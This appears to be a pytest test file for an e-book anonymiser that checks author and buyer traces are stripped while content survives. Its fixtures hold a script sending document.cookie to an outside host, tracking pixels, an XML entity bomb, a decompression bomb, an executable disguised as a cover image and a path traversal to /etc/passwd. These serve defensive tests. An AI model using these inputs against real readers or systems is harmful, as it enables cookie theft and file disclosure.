"""E-books keep their words, pictures and order; who wrote, made and bought them goes."""

from __future__ import annotations

import io
import shutil
import subprocess
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from PIL import Image

from relay.model import Attachment
from relay.refusals import CannotAnonymise

Inside = Callable[[bytes], dict[str, bytes]]

CONTAINER = (
    '<?xml version="1.0"?><container version="1.0" xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles>'
    '<rootfile full-path="EPUB/jane-whitcombe.opf" media-type="application/oebps-package+xml"/></rootfiles></container>'
)
OPF = """<?xml version="1.0" encoding="UTF-8"?>
<package xmlns="http://www.idpf.org/2007/opf" version="3.0" unique-identifier="pub" prefix="calibre: https://calibre.example">
<metadata xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:identifier id="pub">isbn:jwhit42</dc:identifier>
<dc:title>My first year, by Jane Whitcombe</dc:title><dc:language>en</dc:language>
<dc:creator id="c">Jane Whitcombe</dc:creator>
<dc:publisher>Northbank Advisory</dc:publisher><dc:date>2026-11-02</dc:date>
<meta property="dcterms:modified">2026-11-02T10:00:00Z</meta><meta name="cover" content="cover"/>
<meta name="calibre:user_metadata" content="jwhit42"/></metadata>
<manifest><item id="nav" href="nav.xhtml" media-type="application/xhtml+xml" properties="nav"/>
<item id="one" href="jane%20one.xhtml" media-type="application/xhtml+xml" properties="scripted svg"/>
<item id="css" href="style.css" media-type="text/css"/><item id="js" href="track.js" media-type="text/javascript"/>
<item id="cover" href="cover.jpg" media-type="image/jpeg" properties="cover-image"/>
<item id="ncx" href="toc.ncx" media-type="application/x-dtbncx+xml"/></manifest>
<spine toc="ncx"><itemref idref="one"/></spine></package>"""
HEAD = '<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html>\n<html xmlns="http://www.w3.org/1999/xhtml" '
HEAD += 'xmlns:epub="http://www.idpf.org/2007/ops">'
NAV = HEAD + (
    "<head><title>Contents</title></head><body><nav epub:type='toc'><ol><li><a href='jane%20one.xhtml#start'>One by "
    "Jane</a></li></ol></nav></body></html>"
)
PAGE = HEAD + (
    '<head><title>One</title><link rel="stylesheet" type="text/css" href="style.css"/><script src="track.js"/>'
    '<meta name="author" content="Jane Whitcombe"/></head><body class="jwhit42 big"><!-- bought by jwhit42 -->'
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="cover.jpg" '
    'width="10" height="10"/></svg>'
    '<h1 id="start" data-buyer="jwhit42">Chapter&nbsp;one</h1><p>Written by Ja<em>ne</em> <b>Whit</b>combe in a '
    '<custom>quiet</custom> room.</p><p><img src="https://northbank.example/t.gif" alt="a tree"/>'
    '<img src="cover.jpg" alt="The cover"/></p><p><a href="https://books.example/x">more</a> '
    '<a href="#start">up</a></p><math xmlns="http://www.w3.org/1998/Math/MathML"><mi>x</mi></math></body></html>'
)
CSS = (
    "/* made by Jane Whitcombe */ @import url(https://northbank.example/x.css); .big { color: red; margin: 1em } "
    ".jwhit42, h1 > em { background-image: url(cover.jpg) } p { background: url(https://northbank.example/p.png) }"
    "@media screen { .big { font-size: 2em } }"
)
NCX = (
    '<?xml version="1.0"?><!DOCTYPE ncx PUBLIC "-//NISO//DTD ncx 2005-1//EN" '
    '"http://www.daisy.org/z3986/2005/ncx-2005-1.dtd">'
    '<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/" version="2005-1"><head>'
    '<meta name="dtb:uid" content="isbn:jwhit42"/>'
    "</head><docTitle><text>My first year</text></docTitle><docAuthor><text>Jane Whitcombe</text></docAuthor><navMap>"
    '<navPoint id="jwhit42" playOrder="1"><navLabel><text>One</text></navLabel><content src="jane%20one.xhtml#start"/>'
    "</navPoint></navMap></ncx>"
)


def jpeg() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (10, 10), "red").save(out, "JPEG", comment=b"jwhit42 Whitcombe")
    return out.getvalue()


def book(**changes: bytes | str | None) -> bytes:
    """An e-book; ``changes`` replace files, None leaves one out."""
    files: dict[str, bytes | str | None] = {
        "META-INF/container.xml": CONTAINER,
        "EPUB/jane-whitcombe.opf": OPF,
        "EPUB/nav.xhtml": NAV,
        "EPUB/jane one.xhtml": PAGE,
        "EPUB/style.css": CSS,
        "EPUB/track.js": "fetch('https://northbank.example/' + document.cookie)",
        "EPUB/cover.jpg": jpeg(),
        "EPUB/toc.ncx": NCX,
        "META-INF/calibre_bookmarks.txt": "jwhit42",
        **changes,
    }
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/epub+zip", zipfile.ZIP_STORED)
        for name, content in files.items():
            if content is not None:
                archive.writestr(name, content)
    return out.getvalue()


def test_the_words_the_pictures_and_the_order_stay(clean: Callable[..., Attachment], tmp_path: Path) -> None:
    done = clean(book(), "my year.epub")
    assert (done.media_type, done.filename) == ("application/epub+zip", "my year.epub")
    with zipfile.ZipFile(io.BytesIO(done.content)) as archive:
        first = archive.infolist()[0]
        assert (first.filename, first.compress_type) == ("mimetype", zipfile.ZIP_STORED)
        files = {name: archive.read(name) for name in archive.namelist()}
    page = files["OEBPS/pages/page2.xhtml"].decode()
    assert (
        "Chapter\u00a0one" in page
        and "in a <span>quiet</span> room" in page
        and "<mi>x</mi>" in page
        and "a tree" in page
    )
    assert page.count('src="../pictures/picture4.jpg"') == 2 and 'href="https://books.example/x"' in page
    assert "Written by Amber Heron" in page.replace("<em>", "").replace("</em>", "").replace("<b>", "").replace(
        "</b>", ""
    )
    assert 'href="page2.xhtml#i1"' in files["OEBPS/pages/page1.xhtml"].decode()
    assert 'src="../pages/page2.xhtml#i1"' in files["OEBPS/ncxs/ncx5.ncx"].decode()
    sheet = files["OEBPS/styles/style3.css"].decode()
    assert "color:red" in sheet and "url(../pictures/picture4.jpg)" in sheet and "@media screen" in sheet
    assert "My first year, by Amber Heron" in files["OEBPS/package.opf"].decode()


def test_the_language_stays_and_its_region_goes(clean: Callable[..., Attachment], inside: Inside) -> None:
    opf = OPF.replace("<dc:language>en<", "<dc:language>en-ZA</dc:language><dc:language>zh-TW<")
    page = HEAD.replace("<html", "<html lang='en-ZA' xml:lang='en-ZA'") + "<body><p lang='sw-KE'>Asante</p></body>"
    files = inside(clean(book(**{"EPUB/jane-whitcombe.opf": opf, "EPUB/jane one.xhtml": page + "</html>"})).content)
    assert b"<dc:language>en</dc:language><dc:language>zh-Hant</dc:language>" in files["OEBPS/package.opf"]
    assert b'lang="en" xml:lang="en"' in files["OEBPS/pages/page2.xhtml"]
    assert b'<p lang="sw">Asante</p>' in files["OEBPS/pages/page2.xhtml"]


def test_nothing_that_tells_who_made_or_bought_it_stays(
    clean: Callable[..., Attachment], telling: Callable[[bytes], list[str]]
) -> None:
    done = clean(book())
    assert telling(done.content) == []
    with zipfile.ZipFile(io.BytesIO(done.content)) as archive:
        everything = b"".join(archive.read(name) for name in archive.namelist()) + repr(archive.namelist()).encode()
    for word in (b"script", b"calibre", b"isbn", b"creator", b"track", b"data-", b"import", b"author", b"northbank"):
        assert word not in everything.lower(), word


def test_an_older_book_keeps_its_guide(clean: Callable[..., Attachment], inside: Inside) -> None:
    guide = '<guide><reference type="text" title="By Jane Whitcombe" href="jane%20one.xhtml#start"/></guide></package>'
    opf = OPF.replace('version="3.0"', 'version="2.0"').replace("</package>", guide)
    package = inside(clean(book(**{"EPUB/jane-whitcombe.opf": opf})).content)["OEBPS/package.opf"].decode()
    assert '<reference type="text" title="By Amber Heron" href="pages/page2.xhtml#i1"/>' in package


def test_braces_in_a_page_stay(clean: Callable[..., Attachment], inside: Inside) -> None:
    page = PAGE.replace("a tree", "a tree {{identifier}}")
    files = inside(clean(book(**{"EPUB/jane one.xhtml": page})).content)
    assert b"a tree {{identifier}}" in files["OEBPS/pages/page2.xhtml"]
    assert b'content="urn:uuid:' in files["OEBPS/ncxs/ncx5.ncx"]


@pytest.mark.parametrize(
    ("codec", "label"),
    [("utf-16", "UTF-16"), ("utf-8-sig", "utf-8"), ("cp1252", "windows-1252"), ("utf-8", "punycode")],
)
def test_a_page_is_read_in_its_charset(
    codec: str, label: str, clean: Callable[..., Attachment], inside: Inside
) -> None:
    page = PAGE.replace("utf-8", label, 1).replace("a tree", "ein großer Baum, schön gewachsen")
    files = inside(clean(book(**{"EPUB/jane one.xhtml": page.encode(codec)})).content)
    assert "ein großer Baum, schön gewachsen" in files["OEBPS/pages/page2.xhtml"].decode()


# Debian's epubcheck is a Java archive that a shell starts only where the kernel knows how.
EPUBCHECK = shutil.which("epubcheck") if shutil.which("java") else None


@pytest.mark.skipif(EPUBCHECK is None, reason="epubcheck is not installed")
def test_epubcheck_finds_nothing_wrong(clean: Callable[..., Attachment], tmp_path: Path) -> None:
    (tmp_path / "a.epub").write_bytes(clean(book()).content)
    command = ["java", "-jar", str(EPUBCHECK), str(tmp_path / "a.epub")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


ENCRYPTED = (
    '<encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><EncryptedData xmlns="http://www.w3.org/2001/04/'
    'xmlenc#"><EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/><CipherData><CipherReference '
    'URI="EPUB/jane one.xhtml"/></CipherData></EncryptedData></encryption>'
)
BOMB = (
    HEAD.replace("<!DOCTYPE html>", '<!DOCTYPE html [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>')
    + "<body>&b;</body></html>"
)


@pytest.mark.parametrize(
    ("changes", "words"),
    [
        ({"META-INF/encryption.xml": ENCRYPTED}, "copy protection"),
        ({"EPUB/jane one.xhtml": BOMB}, "damaged"),
        ({"EPUB/jane one.xhtml": "<html><p>not closed</html>"}, "damaged"),
        ({"EPUB/jane one.xhtml": b"\0" * 30_000_000}, "unpacks to far more"),
        ({"EPUB/cover.jpg": b"MZ\x90\0 no picture"}, "damaged"),
        ({"META-INF/container.xml": None}, "damaged"),
        ({"EPUB/jane-whitcombe.opf": "<package/>"}, "damaged"),
    ],
)
def test_what_is_protected_damaged_or_a_bomb_is_refused(
    clean: Callable[..., Attachment], changes: dict[str, bytes | str | None], words: str
) -> None:
    with pytest.raises(CannotAnonymise, match=words) as refused:
        clean(book(**changes), "year.epub")
    assert refused.value.file == "year.epub"


def test_paths_out_of_the_book_lead_nowhere(clean: Callable[..., Attachment]) -> None:
    opf = OPF.replace('href="style.css"', 'href="../../../etc/passwd"')
    with zipfile.ZipFile(io.BytesIO(clean(book(**{"EPUB/jane-whitcombe.opf": opf})).content)) as archive:
        assert not any("passwd" in name for name in archive.namelist())
